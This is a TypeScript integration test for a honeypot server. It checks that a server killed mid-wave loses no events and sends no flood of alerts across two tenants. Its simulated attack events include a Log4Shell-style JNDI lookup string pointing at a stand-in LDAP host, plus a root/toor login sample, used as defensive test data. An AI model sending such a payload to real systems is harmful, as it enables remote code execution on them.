/** A wave of sources in two tenants side by side on each store, while the server is killed. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it, type TestContext } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { newWebhookSecret } from '../../src/notify/channels/webhook.ts';
import { startMongo } from '../support/mongo-server.ts';
import { answer, openReceiver } from '../support/notify/receiver.ts';
import { type ServerProcess, startServerProcess } from '../support/process.ts';
import { testSecret } from '../support/server.ts';

const mongo = await startMongo();
const inside = '10.20.30.40';
/** src/alert/waves.ts: so many are told one by one, then once at each doubling. */
const singles = 20;
const mostPerLife = (sources: number): number => singles + 1 + Math.ceil(Math.log2(sources / singles));

/** An attempt from outside that opens an incident of its own. */
const eventOf = (n: number): object => ({
  event_id: `wave-${n}`,
  service: 'HTTP',
  source_ip: `20.${n >> 8}.${n & 255}.7`,
  timestamp: new Date().toISOString(),
  activity: 'http_request',
  payload: 'GET /?x=${jndi:ldap://203.0.113.1:1389/a} HTTP/1.1',
});
const touchInside = (): object => ({
  event_id: 'inside',
  service: 'ssh',
  source_ip: inside,
  timestamp: new Date().toISOString(),
  activity: 'login attempt',
  payload: '',
  extra: { kind: 'login.failed', username: 'root', password: 'toor' },
});

const until = async (holds: () => boolean): Promise<void> => {
  while (!holds()) await delay(20);
};

async function call<T>(url: string, headers: Record<string, string>, body?: object): Promise<T> {
  const response = await fetch(url, {
    method: body ? 'POST' : 'GET',
    headers: { ...(body ? { 'content-type': 'application/json' } : {}), ...headers },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  if (!response.ok) throw new Error(`${url} answered ${response.status}: ${await response.text()}`);
  return (await response.json()) as T;
}

interface Tenant {
  mine: Record<string, string>;
  key: string;
}
interface Sending {
  key: string;
  body: object;
}

async function play(t: TestContext, env: Record<string, string>, sources: number): Promise<void> {
  const receiver = await openReceiver(answer(204));
  t.after(() => receiver.close());
  // Where registration is closed, the receiver inside is for both tenants.
  const start = (REGISTRATION = 'closed'): Promise<ServerProcess> =>
    startServerProcess({
      JWT_SECRET_KEY: testSecret,
      NOTIFY_ALLOW_PRIVATE: '127.0.0.1',
      REGISTRATION,
      ...env,
    });
  let server = await start('open');
  t.after(() => server.kill());

  const accounts: Tenant['mine'][] = [];
  for (const name of ['one', 'two']) {
    const email = `${name}@example.org`;
    const user = await call<{ access_token: string }>(
      `${server.address}/auth/register`,
      {},
      { email, password: 'correct horse battery' },
    );
    accounts.push({ authorization: `Bearer ${user.access_token}` });
  }
  await server.kill();
  server = await start();
  const tenants: Tenant[] = [];
  for (const mine of accounts) {
    const node = await call<{ api_key: string }>(`${server.address}/nodes`, mine, { name: 'wave' });
    await call(`${server.address}/api/channels`, mine, {
      name: 'wave',
      channel: 'webhook',
      settings: { url: `${receiver.url}/hook`, secret: newWebhookSecret() },
    });
    tenants.push({ mine, key: node.api_key });
  }

  // Every event until it is acknowledged, as a client does, by four at a time; killed twice on the way. The touch inside
  // comes in the middle of the wave.
  const waiting: Sending[] = Array.from({ length: sources }, (_, n) =>
    tenants.flatMap(({ key }) => [
      { key, body: eventOf(n) },
      ...(n === sources >> 1 ? [{ key, body: touchInside() }] : []),
    ]),
  ).flat();
  const all = waiting.length;
  let acknowledged = 0;
  const killAt = [all / 4, all / 2];
  let reborn: Promise<void> = Promise.resolve();
  const send = async (): Promise<void> => {
    for (let one = waiting.shift(); one !== undefined; one = waiting.shift()) {
      await reborn;
      const sent = await call(`${server.address}/api/honeypot-log`, { 'x-node-key': one.key }, one.body).then(
        () => true,
        (error: unknown) => {
          // Whatever a living server answers is its answer; only who was killed is asked again.
          if (error instanceof Error && error.message.includes(' answered ')) {
            waiting.length = 0;
            throw error;
          }
          return false;
        },
      );
      if (!sent) waiting.push(one);
      else acknowledged += 1;
      if (killAt[0] !== undefined && acknowledged >= killAt[0]) {
        killAt.shift();
        reborn = reborn.then(async () => {
          await server.kill();
          server = await start();
        });
      }
    }
  };
  await Promise.all(Array.from({ length: 4 }, send));
  assert.equal(acknowledged, all);
  assert.equal(killAt.length, 0);

  for (const { mine } of tenants) {
    const { total_attacks } = await call<{ total_attacks: number }>(`${server.address}/api/stats`, mine);
    assert.equal(total_attacks, sources + 1);
    const list = async <T>(path: string): Promise<T[]> => {
      const items: T[] = [];
      for (let cursor: string | null = ''; cursor !== null; ) {
        const next: string = cursor === '' ? '' : `&cursor=${encodeURIComponent(cursor)}`;
        const page: { items: T[]; next_cursor: string | null } = await call(
          `${server.address}${path}?limit=100${next}`,
          mine,
        );
        items.push(...page.items);
        cursor = page.next_cursor;
      }
      return items;
    };
    const incidents = await list<{ source_ip: string }>('/api/incidents');
    assert.equal(incidents.length, sources + 1);
    assert.equal(new Set(incidents.map(({ source_ip }) => source_ip)).size, sources + 1);
    // What is to be sent is recorded with the events; that it arrives after a kill is the matter of test/notify/crash.
    const messages = await list<{ notice: { title: string; source_ip: string } }>('/api/deliveries');
    const ofWave = messages.filter(({ notice }) => notice.source_ip !== inside);
    assert.equal(messages.length - ofWave.length, 1, 'the touch inside was told once, by itself');
    assert.ok(ofWave.length >= singles + 1, `only ${ofWave.length} messages`);
    // Three lives, of which each may tell the wave from its beginning.
    assert.ok(ofWave.length <= 3 * mostPerLife(sources), `${ofWave.length} messages`);
    assert.ok(
      ofWave.some(({ notice }) => /sources/.test(notice.title)),
      'the wave itself was told',
    );
  }
  await until(() => receiver.seen.length > 0);
}

describe('a server that is killed in the middle of a wave loses no event and sends no storm of messages', () => {
  after(() => mongo?.close());

  it('on SQLite', async (t) => {
    const folder = mkdtempSync(join(tmpdir(), 'decoyverse-wave-'));
    t.after(() => rmSync(folder, { recursive: true, force: true }));
    await play(t, { DATA_DIR: folder }, 400);
  });
  // Fewer: the tests' server is slow.
  it('on MongoDB', { skip: mongo === null }, (t) =>
    play(t, { MONGODB_URI: mongo!.uri, DATABASE_NAME: mongo!.newDatabase() }, 120),
  );
});
